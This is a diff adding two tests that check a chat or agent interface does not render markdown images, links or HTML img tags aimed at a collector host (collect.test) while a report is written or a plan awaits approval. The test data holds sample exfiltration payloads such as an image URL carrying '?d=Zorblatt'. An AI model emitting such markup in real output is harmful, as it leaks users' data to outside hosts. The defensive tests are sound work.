@@ -252,3 +252,29 @@ async def test_a_session_reads_the_same_after_every_reload(
         assert last in page.screens[-1][-1][1]
         assert len(page.interrupts) == waiting
         assert await reloaded(thread) == (page.screens[-1], waiting)
+
+
+async def test_no_picture_and_no_address_is_shown_while_a_report_is_written(
+    thread: Session, choices: dict[str, object], scripted: Script
+):
+    live = "![dance](https://collect.test/p.png?d=Zorblatt) and [more](//collect.test) at"
+    scripted.on("reporter", f"{SAID} {live} https://collect.test/q. {SAID}")
+
+    page = await shown(thread, choices)
+
+    assert "collect.test" not in page.seen
+    assert "![" not in page.seen
+
+
+async def test_a_plan_that_waits_draws_no_picture(
+    thread: Session, choices: dict[str, object], scripted: Script
+):
+    plan = draft("waggle dance")
+    plan["steps"][0]["description"] = "![](https://collect.test/p.png?d=Zorblatt)"
+    plan["steps"][0]["queries"] = ["<img src=https://collect.test/q>", "dance"]
+    scripted.on("Draft", plan | {"thought": "[now](https://collect.test/t)"})
+
+    page = await shown(thread, choices, auto_accept=False)
+
+    (waiting,) = (await thread.current()).interrupts
+    assert "collect.test" not in page.seen + str(waiting.value)
